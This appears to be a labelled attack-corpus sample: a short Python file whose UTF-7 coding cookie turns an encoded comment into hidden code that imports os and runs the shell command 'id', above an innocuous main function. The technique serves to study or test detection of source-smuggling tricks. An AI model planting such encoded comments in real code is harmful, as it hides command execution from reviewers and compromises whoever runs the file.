# coding: utf-7
# corpus: attack class=process form=targeted
# A UTF-7 coding cookie turns an encoded newline in a comment into code.
# +AAo-import os+AAo-os.system(+ACI-id+ACI-)


def main():
    return {"done": True}
